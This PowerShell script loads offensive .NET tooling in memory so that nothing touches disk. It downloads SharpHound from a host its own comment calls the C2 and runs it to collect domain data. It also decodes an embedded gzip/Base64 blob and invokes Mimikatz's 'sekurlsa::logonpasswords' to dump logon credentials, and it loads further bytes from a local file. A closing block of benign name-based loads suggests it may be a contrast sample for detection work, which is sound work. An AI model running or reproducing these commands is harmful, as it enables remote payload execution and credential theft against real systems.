# In-memory .NET tooling: nothing touches disk.
$ProgressPreference = 'SilentlyContinue'

# 1) assembly pulled straight off the C2
$asm = [System.Reflection.Assembly]::Load((New-Object System.Net.WebClient).DownloadData('https://cdn.example-updates.net/r/SharpHound.exe'))
$asm.EntryPoint.Invoke($null, (, [string[]]@('-c', 'All', '--zipfilename', 'x.zip')))

# 2) embedded, gzip-compressed and Base64 encoded
$blob = 'H4sIAAAAAAAEAO29B2AcSZYlJi9tynt/SvVK1+B0oQiAYBMk2JBAEOzBiM3mkuwdaUcjKasqgcplVmVdZhZAzO2dvPfee++999577733ujudTif33/8/XGZkAWz2zkrayZ4hgKrIHz9+fB8/Ir73+7/3jz74nvf/gv//r/87/x/8B/8Pvqf33vP/vvef/x/8f/G//9/+1/8/8H8='
$raw = [Convert]::FromBase64String($blob)
$in = New-Object System.IO.MemoryStream(, $raw)
$gz = New-Object System.IO.Compression.GZipStream($in, [System.IO.Compression.CompressionMode]::Decompress)
$out = New-Object System.IO.MemoryStream
$gz.CopyTo($out)
[System.Reflection.Assembly]::Load($out.ToArray()) | Out-Null
[Mimikatz.Program]::Main(@('privilege::debug', 'sekurlsa::logonpasswords', 'exit'))

# 3) AppDomain spelling, bytes from a local resource file
$local = [System.IO.File]::ReadAllBytes("$PSScriptRoot\res.bin")
[AppDomain]::CurrentDomain.Load($local) | Out-Null

# loading by name is fine and common
[System.Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms') | Out-Null
Add-Type -AssemblyName System.Drawing
